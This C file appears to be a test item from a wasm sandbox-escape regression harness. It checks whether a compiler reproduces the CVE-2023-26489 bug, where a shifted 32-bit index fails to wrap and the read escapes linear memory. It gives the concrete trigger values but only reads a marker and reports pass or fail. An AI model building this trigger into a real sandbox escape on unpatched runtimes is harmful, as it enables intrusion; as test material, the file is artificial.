/* W-05 (wasm, class P): codegen sandbox-escape regression, CVE-2023-26489
 * pattern (x86-64 Cranelift folded `base + (idx << 3)` into a 35-bit address
 * instead of wrapping at 32 bits). Writes a marker at the correctly WRAPPED
 * address, reads it back via the shift form with idx = 0x20000000 + k
 * (idx<<3 wraps). CODEGEN:correct (exit 1) = patched; a trap or a different
 * value (exit 0) = FAIL: the read went outside linear memory. Version gate via
 * Cargo.lock is the harness's job. Native: N/E (exit 2): there is no wasm
 * compiler bounds logic in a native build to miscompile. */
#include "common.h"
#include <stdint.h>
#ifndef __wasi__
int main(void) {
  /* Not expressible natively: the attack is a miscompilation of wasm address
   * arithmetic by the wasm compiler (the sandbox's own bounds logic). A native
   * program has no such boundary in its code generation to get wrong. */
  printf("N/E: a codegen bug of the wasm compiler's bounds arithmetic; native code has no sandbox boundary in its codegen\n");
  return ATK_NE;
}
#else
static uint64_t buf[64];
__attribute__((noinline)) uint64_t load_shifted(uintptr_t base, volatile uint32_t *idx) {
  uint32_t off = *idx << 3; /* wraps mod 2^32 in C and in wasm semantics */
  return *(volatile uint64_t *)(uintptr_t)((uint32_t)base + off);
}
int main(void) {
  uint32_t base = (uint32_t)(uintptr_t)&buf[0];
  volatile uint32_t idx = 0x20000000u + 8; /* << 3 == 0x1_0000_0040 -> wraps to 0x40 */
  buf[8] = 0x15014A5A15014A5AULL;
  uint64_t v = load_shifted(base, &idx);
  int ok = v == 0x15014A5A15014A5AULL;
  printf("CODEGEN:%s value=%#llx\n", ok ? "correct" : "WRONG (35-bit address?)", (unsigned long long)v);
  return ok ? ATK_BLOCKED : ATK_ACHIEVED;
}
#endif
